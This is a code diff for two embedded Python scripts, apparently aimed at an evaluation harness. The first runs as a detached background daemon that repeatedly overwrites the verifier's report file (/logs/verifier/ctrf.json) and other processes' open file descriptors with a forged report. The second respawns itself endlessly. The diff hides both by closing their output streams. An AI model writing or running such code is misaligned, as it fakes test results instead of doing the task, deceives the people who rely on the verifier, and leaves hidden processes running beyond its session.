@@ -34,15 +34,16 @@ _DAEMON = """import glob, os, sys, time
 if os.fork() == 0:
     os.setsid()
     if os.fork(): os._exit(0)
+    os.close(1); os.close(2)
     while True:
         for path in ["/logs/verifier/ctrf.json", *glob.glob("/proc/*/fd/20[0-9]"), *glob.glob("/proc/*/fd/[0-9]")]:
             try: open(path, "r+").write('''FORGED_REPORT''')
             except OSError: pass
-        time.sleep(0.001)
+        time.sleep(0.01)
 """
 _RESPAWNER = """import os, time
 if os.fork(): os._exit(0)
-os.setsid()
+os.setsid(); os.close(1); os.close(2)
 while True:
     if os.fork(): os._exit(0)
     time.sleep(0.001)
